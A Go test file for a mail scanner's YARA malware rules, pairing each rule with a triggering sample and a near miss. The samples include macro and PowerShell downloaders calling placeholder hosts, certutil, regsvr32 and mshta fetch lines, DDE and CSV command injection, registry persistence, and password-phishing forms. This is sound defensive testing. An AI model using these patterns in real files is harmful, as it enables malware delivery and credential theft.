//go:build cgo

package builtin

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"spamcatcher/signatures/yara"
)

func compile(t testing.TB) *yara.Rules {
	t.Helper()
	r, problems, err := yara.Compile(Sources())
	if err != nil || len(problems) > 0 {
		t.Fatalf("compiling: %v, %v", err, problems)
	}
	t.Cleanup(r.Close)
	return r
}

func scan(t testing.TB, r *yara.Rules, data string, f yara.Facts) []string {
	t.Helper()
	matches, err := r.Scan(context.Background(), []byte(data), f, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, m := range matches {
		names = append(names, m.Rule)
	}
	return names
}

// program is the beginning of a program for Windows, which does nothing: its
// header, and what stands behind it.
func program(behind string) string {
	b := make([]byte, 512)
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8")
	b[0x3c] = 0x80
	copy(b[0x4e:], stub)
	copy(b[0x80:], "PE\x00\x00\x4c\x01")
	return string(b) + behind
}

const stub = "This program cannot be run in DOS mode.\r\r\n$"

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

func backwards(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

func xor(s string, key byte) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= key
	}
	return string(b)
}

var (
	macro  = yara.Facts{Name: "Module1", Kind: "macro"}
	script = yara.Facts{Name: "order.js", Kind: "member", Extension: "js"}
	vbs    = yara.Facts{Name: "order.vbs", Kind: "part", ContentType: "application/octet-stream", Extension: "vbs"}
	page   = yara.Facts{Name: "invoice.html", Kind: "part", ContentType: "text/html", Extension: "html"}
	file   = yara.Facts{Name: "file.bin", Kind: "member"}
	body   = yara.Facts{Kind: "part", ContentType: "text/html"}
	plain  = yara.Facts{Kind: "part", ContentType: "text/plain"}
	raw    = yara.Facts{Kind: "mail", Type: "message/rfc822"}
)

func named(f yara.Facts, name string) yara.Facts {
	f.Name = name
	return f
}

const (
	guid   = "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"
	note   = "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"
	link   = "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
	ole    = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
	autoit = "\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c\x53\x0a\x86\xd6\x48\x7d"
	class  = "\x02\xce\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
)

// A sample is a file that a rule must name, and one much like it that it must not.
type sample struct {
	rule      string
	fires     string
	facts     yara.Facts
	miss      string
	missFacts yara.Facts
}

// samples are harmless: they lead to addresses that do not exist, and no line of
// them does anything by itself.
func samples() []sample {
	long := strings.Repeat("QUJDREVG", 40)
	codes := strings.Repeat("104, ", 60)
	password := `<html><body><form action="https://login.example.test/post.php" method="post"><input name="e"><input name="p" type="password"></form>`
	return []sample{
		{"EICAR_Test_File", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", plain, "EICAR-STANDARD-ANTIVIRUS-TEST-FILE is its name", plain},

		{"Macro_Downloads_And_Runs", `Private Declare Function URLDownloadToFile Lib "urlmon"
Sub AutoOpen()
URLDownloadToFile 0, "http://files.example.test/a", Environ("TEMP") & "\a.exe", 0, 0
Shell Environ("TEMP") & "\a.exe", 0
End Sub`, macro, `Sub UpdateRates()
' run by hand: Set x = CreateObject("MSXML2.XMLHTTP"), then ADODB.Stream SaveToFile "rates.exe"
CreateObject("WScript.Shell").Popup "done"
End Sub`, macro},
		{"Macro_Hidden_PowerShell", `Sub Document_Open()
Shell "powershell -w hidden -c ""echo example""", 0
End Sub`, macro, `Sub Document_Open()
Shell "powershell -File report.ps1", 1
End Sub`, macro},
		{"Macro_Machine_Code", `Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" () As LongPtr
Private Declare PtrSafe Sub RtlMoveMemory Lib "kernel32" ()
Private Declare PtrSafe Function CreateThread Lib "kernel32" () As LongPtr
Sub Auto_Open()
End Sub`, macro, `Private Declare PtrSafe Sub RtlMoveMemory Lib "kernel32" ()
Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" () As LongPtr
Sub Auto_Open()
End Sub`, macro},
		{"Macro_System_Tool_From_Network", `Sub Workbook_Open()
CreateObject("WScript.Shell").Run "mshta http://files.example.test/a.hta"
End Sub`, macro, `Sub Workbook_Open()
CreateObject("WScript.Shell").Run "notepad http.txt" ' no mshta
End Sub`, macro},
		{"Macro_Runs_At_Once", `Sub AutoExec()
Shell "calc.exe"
End Sub`, macro, `Sub Calculate()
Shell "calc.exe"
End Sub`, macro},
		{"Macro_Fetches_At_Once", `Sub Workbook_Open()
Set q = CreateObject("MSXML2.ServerXMLHTTP")
End Sub`, macro, `Sub Workbook_Open()
Set q = CreateObject("MSXML2.DOMDocument")
End Sub`, macro},
		{"Macro_Spelt_In_Numbers", "Sub A()\nx = " + strings.Repeat("Chr(104) & ", 40) + `""`, macro, "Sub A()\nx = \"a\" & Chr(13) & Chr(10)", macro},
		{"Macro_Text_Backwards", `x = StrReverse("llehs` + `rewop")`, macro, `x = StrReverse("level")`, macro},
		{"Macro_Weakens_Office", `w.RegWrite "HKCU\Software\Microsoft\Office\16.0\Word\Security\VBAWarnings", 1`, macro, `' see the setting VBAWarnings`, macro},
		{"Macro_Process_By_WMI", "Sub AutoOpen()\nGetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\").Create \"notepad\"\nEnd Sub", macro,
			"Sub AutoOpen()\nFor Each p In GetObject(\"winmgmts:\").InstancesOf(\"Win32_Process\")\nEnd Sub", macro},
		{"Sheet_Calls_Library", `=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://files.example.test/a","a.txt",0,0)`, macro, `=CALL("kernel32","GetTickCount","J")`, macro},
		{"Sheet_Runs_Interpreter", `=EXEC("regsvr32 -s a.ocx")`, macro, `=EXEC("notepad.exe")`, macro},

		{"Script_Downloader", `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://files.example.test/a", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(x.responseBody); s.SaveToFile("a.txt");
new ActiveXObject("WScript.Shell").Run("a.txt");`, script, `var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://files.example.test/a", false); x.send(); new ActiveXObject("WScript.Shell").Popup(x.responseText);`, script},
		{"Script_Hidden_PowerShell", `CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://files.example.test/a')", 0`, vbs,
			`Set-ExecutionPolicy Bypass; iex ((New-Object System.Net.WebClient).DownloadString('https://install.example.test/install.ps1')) # powershell`, file},
		{"Script_Encoded_PowerShell", `start powershell.exe -nop -enc ` + base64.StdEncoding.EncodeToString([]byte(wide("Write-Output 'nothing but an example for a test, which says so'"))), file,
			`powershell.exe -Encoding UTF8 -File C:\Scripts\report.ps1`, file},
		{"Script_Scriptlet_From_Network", `regsvr32 /s /n /u /i:http://files.example.test/a.sct scrobj.dll`, file, `regsvr32 /s scrobj.dll`, file},
		{"Script_Program_Backwards", `var p = "` + backwards(base64.StdEncoding.EncodeToString([]byte(program("")))) + `";`, script, `var p = "backwards";`, script},
		{"Script_Program_In_Base64", `var p = "` + base64.StdEncoding.EncodeToString([]byte(program(""))) + `";`, script,
			"From: a@example.com\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(program(""))), file},
		{"Script_Stub_In_Base64", `var p = "` + base64.StdEncoding.EncodeToString([]byte("x"+stub)) + `";`, script, stub, script},
		{"Script_Program_In_Hex", `$p = "` + hex.EncodeToString([]byte(program(""))) + `"`, file, `$p = "4d5a9000"`, file},
		{"Program_Under_Xor", xor(program(""), 0x5a), file, program(""), file},
		{"Script_Fetches_With_PowerShell", `irm https://get.example.test/install | iex`, file, `irm https://get.example.test/status | Format-Table`, file},
		{"Script_Page_As_Program", `mshta http://files.example.test/a.hta`, file, `mshta is documented at http://example.com`, file},
		{"Script_Certutil_Download", `certutil -urlcache -split -f http://files.example.test/a a.txt`, file, `certutil -hashfile a.txt SHA256`, file},
		{"Script_Bitsadmin_Download", `bitsadmin /transfer job /priority high http://files.example.test/a C:\a.txt`, file, `bitsadmin /list /allusers`, file},
		{"Script_Rundll32_JavaScript", `rundll32.exe javascript:"\..\mshtml,Run` + `HTMLApplication ";alert(1)`, file, `rundll32.exe printui.dll,PrintUIEntry /il`, file},
		{"Script_Names_In_Pieces", `var a = "WScr" + "ipt.Sh" + "ell";`, script, `var a = "Write" + "Line";`, script},
		{"Script_Objects_And_Codes", `var a = new ActiveXObject(String.fromCharCode(` + codes + `0))`, script, `var a = String.fromCharCode(` + codes + `0)`, script},
		{"Script_Copies_Itself", `sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\a", WScript.ScriptFullName`, vbs, `WScript.Echo WScript.ScriptFullName`, vbs},
		{"Application_Page_Runs", `<html><hta:application id="a"><script>new ActiveXObject("WScript.Shell")</script>`, page, `<html><hta:application id="a"><script>alert(1)</script>`, page},
		{"Batch_Downloads", "@echo off\r\ncurl -o a.txt https://files.example.test/a\r\nstart a.txt\r\n", file, "@echo off\r\ncurl https://status.example.test/ping\r\n", file},
		{"Script_Turns_Defender_Off", `Add-MpPreference -ExclusionPath C:\Example`, file, `Get-MpPreference | Select ExclusionPath`, file},

		{"Program_Under_False_Name", program(""), named(file, "invoice.pdf"), program(""), named(file, "setup.exe")},
		{"Program_Double_Extension", program(""), named(file, "invoice.pdf.exe"), program(""), named(file, "viewer-2.0.exe")},
		{"Program_Name_Turned", program(""), named(file, "invoice\u202efdp.exe"), program(""), named(file, "rechnung-über.exe")},
		{"Script_Double_Extension", "alert(1)", named(file, "scan_0001.pdf.js"), "alert(1)", named(file, "jquery.min.js")},
		{"Name_With_Gap", "x", named(file, "invoice.pdf"+strings.Repeat(" ", 40)+".exe"), "x", named(file, "my own holiday.exe")},
		{"Picture_With_Program", "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 100) + program(""), file, "\x89PNG\r\n\x1a\n tEXt " + stub, file},
		{"Note_With_Program", note + guid + strings.Repeat("\x00", 20) + program(""), file, note + guid + strings.Repeat("\x00", 20) + "\x89PNG" + program(""), file},
		{"Note_With_Script", note + guid + strings.Repeat("\x00", 20) + `<hta:application>`, file, note + guid + strings.Repeat("\x00", 20) + `<p>a page</p>`, file},
		{"Link_Runs_Interpreter", link + wide(`C:\Windows\System32\cmd.exe /c start http://files.example.test/a`), file, link + wide(`C:\Windows\System32\cmd.exe`), file},
		{"Loader_With_Program", program("mscoree.dll\x00_CorExeMain\x00FromBase64String\x00Load\x00Invoke\x00" + wide("TVqQAAMAAAAEAAAA//8AALg=")), file,
			program("mscoree.dll\x00_CorExeMain\x00FromBase64String\x00Load\x00Invoke\x00" + wide("iVBORw0KGgoAAAANSUhEUgAA")), file},
		{"Packed_By_UPX", program("UPX0\x00\x00\x00\x00UPX1\x00\x00\x00\x00"), file, program("packed with UPX0 and UPX1"), file},
		{"Packed_By_Rarer_Packer", program(".MPRESS1"), file, program(".text\x00.rdata\x00"), file},
		{"Program_From_AutoIt", autoit + "AU3!EA06", file, "AU3!EA06 is the mark of a compiled script", file},
		{"Program_From_NSIS", program("\xef\xbe\xad\xdeNullsoftInst"), file, "\xef\xbe\xad\xdeNullsoftInst", file},
		{"Archive_That_Runs", program("Rar!\x1a\x07;The comment below contains SFX script commands\r\nSetup=a.vbs\r\nSilent=1\r\n"), file,
			program("Rar!\x1a\x07;The comment below contains SFX script commands\r\nPath=Photos\r\n"), file},
		{"Program_As_Excel_Addin", program("\x00xlAutoOpen\x00"), file, "Function xlAutoOpen", file},
		{"Program_For_Linux_Packed", "\x7fELF\x02\x01\x01 UPX!", file, "\x7fELF\x02\x01\x01 plain", file},
		{"Java_Archive", "PK\x03\x04 META-INF/MANIFEST.MF PK\x03\x04 Main.class", file, "PK\x03\x04 META-INF/manifest.xml", file},
		{"Android_Program", "PK\x03\x04 AndroidManifest.xml PK\x03\x04 classes.dex", file, "PK\x03\x04 AndroidManifest.xml", file},

		{"Rtf_Equation_At_Once", `{\rtf1{\object\objemb\objupdate{\*\objdata 02CE020000000000C000000000000046}}}`, file, `{\rtf1{\object\objemb{\*\objdata 02CE020000000000C000000000000046}}}`, file},
		{"Rtf_With_Program", `{\rtf1{\*\objdata ` + hex.EncodeToString([]byte(program(""))) + `}}`, file, `{\rtf1{\*\objdata ` + hex.EncodeToString([]byte("MZ is how it begins")) + `}}`, file},
		{"Rtf_Equation", `{\rtf1{\*\objdata ` + hex.EncodeToString([]byte("Equation.3")) + `}}`, file, `{\rtf1 Equation.3}`, file},
		{"Equation_With_Command", ole + class + wide("Equation Native") + "cmd.exe /c echo example", file, ole + class + wide("Equation Native") + "a + b", file},
		{"Document_Diagnostic_Tool", `location.href = "ms-msdt:/id PCWDiagnostic /param IT_Re` + `BrowseForFile=x IT_Browse` + `ForFile=x"`, page, `<a href="ms-msdt:/id PCWDiagnostic">help</a>`, page},
		{"Document_Page_From_Network", `<Relationship Target="mhtml:http://files.example.test/a.html!x-usc:http://files.example.test/a.html" TargetMode="External"/>`, file,
			`<Relationship Target="https://www.example.com/" TargetMode="External"/>`, file},
		{"Table_Runs_Command", `name,=cmd|'/c echo example'!A1`, named(file, "list.csv"), `name,=SUM(A1:A3)|cmd`, named(file, "list.csv")},
		{"Document_Runs_Command", `<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k echo example"</w:instrText>`, file, `<w:instrText>DDE excel budget.xlsx A1</w:instrText>`, file},

		{"Page_Password_To_Telegram", password + `<script>fetch("https://api.telegram.org/bot0:x/sendMessage")</script>`, page, `<html><script>fetch("https://api.telegram.org/bot0:x/sendMessage")</script>`, page},
		{"Page_Asks_For_Password", password, page, password, body},
		{"Page_Knows_Its_Reader", `<html><form><input name="e" value="someone@example.com"><input type="password">`, page, `<html><form><input name="e"><input type="password">`, page},
		{"Page_Written_From_Base64", `<html><script>document.write(atob("` + long + `"))</script>`, page, `<html><script>document.write(atob("QUJD"))</script>`, page},
		{"Page_Written_From_Escapes", `<html><script>document.write(unescape("` + strings.Repeat("%3C", 80) + `"))</script>`, page, `<html><script>document.write(unescape("%3Cscript src='a.js'%3E"))</script>`, page},
		{"Page_Saves_A_File", `<html><script>var b = new Blob([Uint8Array.from(atob("QUJD"), c => c.charCodeAt(0))]); a.href = URL.createObjectURL(b); a.download = "a.zip"; a.click()</script>`, page,
			`<html><script>img.src = URL.createObjectURL(new Blob([data]))</script>`, page},
		{"Picture_With_Script", `<svg xmlns="http://www.w3.org/2000/svg"><script>eval(atob("QUJD"))</script></svg>`, named(page, "voice.svg"), `<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`, named(page, "logo.svg")},
		{"Page_Leads_Elsewhere", `<html><script>window.location = "https://files.example.test/a"</script>`, page, `<html><script>window.location = "https://files.example.test/a"</script>` + strings.Repeat(" a long page ", 400), page},
		{"Page_Of_A_Known_Brand", `<html><title>Sign in to Outlook</title><input type="password">`, page, `<html><title>Sign in to Outlook</title><p>How to do it.</p>`, page},
	}
}

var ruleLine = regexp.MustCompile(`(?m)^(private )?rule (\w+)( : suspicious)?$`)

// TestEveryRuleHasASampleAndANearMiss counts both.
func TestEveryRuleHasASampleAndANearMiss(t *testing.T) {
	var rules []string
	for _, s := range Sources() {
		for _, m := range ruleLine.FindAllStringSubmatch(s.Text, -1) {
			if m[1] == "" {
				rules = append(rules, m[2])
			}
		}
	}
	r := compile(t)
	private := 0
	for _, s := range Sources() {
		private += strings.Count(s.Text, "\nprivate rule ")
	}
	if len(rules)+private != r.Len() {
		t.Errorf("%d rules and %d private ones seen, %d compiled", len(rules), private, r.Len())
	}
	var sampled []string
	for _, s := range samples() {
		sampled = append(sampled, s.rule)
		if got := scan(t, r, s.fires, s.facts); !slices.Contains(got, s.rule) {
			t.Errorf("%s does not name its sample, which matches %v", s.rule, got)
		}
		if got := scan(t, r, s.miss, s.missFacts); slices.Contains(got, s.rule) {
			t.Errorf("%s names its near miss", s.rule)
		}
	}
	slices.Sort(rules)
	slices.Sort(sampled)
	if !slices.Equal(rules, sampled) {
		t.Errorf("rules   %v\nsamples %v", rules, sampled)
	}
	t.Logf("%d rules, each with a sample and a near miss; %d private ones", len(rules), private)
}

// TestSamplesInTheTextOfAMail: whoever writes about malware is no malware. What
// the samples say, quoted in a body, must name none that is certain, but the test
// file and what nobody writes by hand.
func TestSamplesInTheTextOfAMail(t *testing.T) {
	r := compile(t)
	for _, s := range samples() {
		if s.rule == "EICAR_Test_File" || strings.ContainsRune(s.fires, 0) {
			continue
		}
		for _, f := range []yara.Facts{raw, plain, body} {
			text := s.fires
			if f.Kind == "mail" {
				text = "From: a@example.com\r\nSubject: how they work\r\n\r\nLook at this: " + text
			} else if strings.HasPrefix(text, `{\rt`) || s.rule == "Script_Program_Backwards" {
				continue
			} else {
				text = "Look at this: " + text
			}
			matches, err := r.Scan(context.Background(), []byte(text), f, 5*time.Second)
			if err != nil {
				t.Fatal(err)
			}
			for _, m := range matches {
				if !slices.Contains(m.Tags, "suspicious") && m.Rule != "Document_Diagnostic_Tool" {
					t.Errorf("the sample of %s in a body (%s %s) is named %s", s.rule, f.Kind, f.ContentType, m.Rule)
				}
			}
		}
	}
}

func FuzzScan(f *testing.F) {
	r := compile(f)
	kinds := []string{"mail", "part", "member", "stream", "object", "macro", "script"}
	for i, s := range samples() {
		f.Add([]byte(s.fires), s.facts.Name, uint8(i))
		f.Add([]byte(s.miss), s.missFacts.ContentType, uint8(i))
	}
	f.Fuzz(func(t *testing.T, data []byte, name string, kind uint8) {
		facts := yara.Facts{Name: name, Path: name, ContentType: name, Type: name, Sender: name, Kind: kinds[int(kind)%len(kinds)]}
		if _, err := r.Scan(context.Background(), data, facts, 10*time.Second); err != nil {
			t.Fatal(err)
		}
	})
}

// BenchmarkScan is the cost of the built-in set for files of the sizes that mail
// has, of prose, and says that nothing matches.
func BenchmarkScan(b *testing.B) {
	r := compile(b)
	for _, n := range []int{0, 500, 5_000, 50_000, 1_000_000} {
		data := []byte(strings.Repeat("Dear reader, the powers of ten are not shown in this letter; see http://www.example.com/ for them. ", n/90+1))[:n]
		b.Run(fmt.Sprint(n), func(b *testing.B) {
			b.SetBytes(int64(n))
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				facts := plain
				if i%2 == 0 {
					facts = raw
				}
				if got, err := r.Scan(context.Background(), data, facts, time.Second); err != nil || len(got) != 0 {
					b.Fatal(got, err)
				}
			}
		})
	}
}
